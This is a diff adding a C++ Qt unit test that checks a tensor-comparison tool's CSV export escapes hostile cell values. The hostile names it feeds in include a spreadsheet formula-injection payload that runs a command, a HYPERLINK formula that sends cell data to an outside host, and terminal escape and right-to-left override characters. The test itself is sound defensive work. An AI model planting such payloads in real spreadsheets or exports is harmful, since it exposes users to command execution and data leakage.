@@ -183,6 +183,119 @@ private slots:
         QVERIFY(o.value(u"first_divergent"_s).toObject().value(u"cosine"_s).isNull());
     }
 
+    // Issue #31: a compare result whose names are spreadsheet formulas, or carry ESC/BEL and a
+    // right-to-left override, exported again with --csv: no cell of the file starts with a
+    // formula character unescaped, no control byte is in it, and negative numbers stay numbers.
+    void csvCellsAreInert()
+    {
+        QTemporaryDir tmp;
+        const QStringList names = {u"=cmd|' /C calc'!A0"_s,
+                                   u"=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")"_s,
+                                   u"+SUM(1+1)"_s,
+                                   u"-2+3"_s,
+                                   u"@SUM(A1)"_s,
+                                   u"\tTab.0.forward.input.0"_s,
+                                   u"Esc\x1b[2J\x07.forward.input.0"_s,
+                                   u"Rlo\u202Egpj.forward.input.0"_s};
+        const QStringList header = {u"NPU Name"_s,
+                                    u"Bench Name"_s,
+                                    u"NPU Dtype"_s,
+                                    u"Bench Dtype"_s,
+                                    u"NPU Tensor Shape"_s,
+                                    u"Bench Tensor Shape"_s,
+                                    u"Cosine"_s,
+                                    u"MaxAbsErr"_s,
+                                    u"NPU max"_s,
+                                    u"NPU min"_s,
+                                    u"NPU mean"_s,
+                                    u"Bench max"_s,
+                                    u"Bench min"_s,
+                                    u"Bench mean"_s,
+                                    u"Accuracy Reached or Not"_s,
+                                    u"Err_message"_s};
+        QByteArray in = header.join(u',').toUtf8() + '\n';
+        for (const QString &n : names) {
+            const QString q = u'"' + QString(n).replace(u"\""_s, u"\"\""_s) + u'"';
+            in += (QStringList{q,
+                               q,
+                               u"torch.float32"_s,
+                               u"torch.float32"_s,
+                               u"\"[3, 2]\""_s,
+                               u"\"[3, 2]\""_s,
+                               u"1"_s,
+                               u"0"_s,
+                               u"1.5"_s,
+                               u"-1.5"_s,
+                               u"-0.25"_s,
+                               u"1.5"_s,
+                               u"-1.5"_s,
+                               u"-0.25"_s,
+                               u"Yes"_s,
+                               QString()}
+                       .join(u','))
+                      .toUtf8() +
+                  '\n';
+        }
+        const QString input = tmp.filePath(u"compare_result_hostile.csv"_s);
+        QFile inFile(input);
+        QVERIFY(inFile.open(QIODevice::WriteOnly));
+        inFile.write(in);
+        inFile.close();
+        const QString csv = tmp.filePath(u"out.csv"_s);
+        const Run r = run({u"--json"_s, u"--csv"_s, csv, input});
+        QCOMPARE(r.exit, 0);
+        QCOMPARE(QJsonDocument::fromJson(r.out).object().value(u"pairs"_s).toInt(),
+                 int(names.size()));
+        for (const QByteArray &stream : {r.out, r.err})
+            QVERIFY2(!stream.contains("\xe2\x80\xae") && !stream.contains('\x1b') &&
+                         !stream.contains('\x07'),
+                     stream.left(200).constData());
+
+        QFile f(csv);
+        QVERIFY(f.open(QIODevice::ReadOnly));
+        const QByteArray text = f.readAll();
+        for (const char c : text)
+            QVERIFY2(uchar(c) >= 0x20 || c == '\n', QByteArray::number(uchar(c)).constData());
+        QVERIFY(!text.contains("\xe2\x80\xae"));
+        Twinscope::Core::Error error;
+        const auto table =
+            Twinscope::Core::readCsvTable(std::string_view(text.constData(), size_t(text.size())),
+                                          csv,
+                                          Twinscope::Core::CancelToken(),
+                                          &error);
+        QVERIFY(table);
+        QCOMPARE(table->rows.size(), names.size());
+        int negatives = 0;
+        for (const QStringList &row : table->rows) {
+            for (const QString &cell : row) {
+                if (cell.isEmpty())
+                    continue;
+                const QChar c = cell.front();
+                bool number = false;
+                cell.toDouble(&number);
+                if (c == u'-' || c == u'+') {
+                    QVERIFY2(number || cell == u"-inf"_s, qPrintable(cell));
+                    ++negatives;
+                } else {
+                    QVERIFY2(c != u'=' && c != u'@', qPrintable(cell));
+                }
+            }
+        }
+        QVERIFY(negatives >= 4 * names.size()); // the mins and means kept their sign
+        const int name = table->column(u"NPU Name"_s);
+        QStringList exported;
+        for (const QStringList &row : table->rows)
+            exported << row[name];
+        for (const QString &expected : {u"'=cmd|' /C calc'!A0"_s,
+                                        u"'+SUM(1+1)"_s,
+                                        u"'-2+3"_s,
+                                        u"'@SUM(A1)"_s,
+                                        u"Tab.0.forward.input.0"_s,
+                                        u"Esc\\u001B[2J\\u0007.forward.input.0"_s,
+                                        u"Rlo\\u202Egpj.forward.input.0"_s})
+            QVERIFY2(exported.contains(expected), qPrintable(exported.join(u" | "_s)));
+    }
+
     void errors_data()
     {
         QTest::addColumn<QStringList>("args");
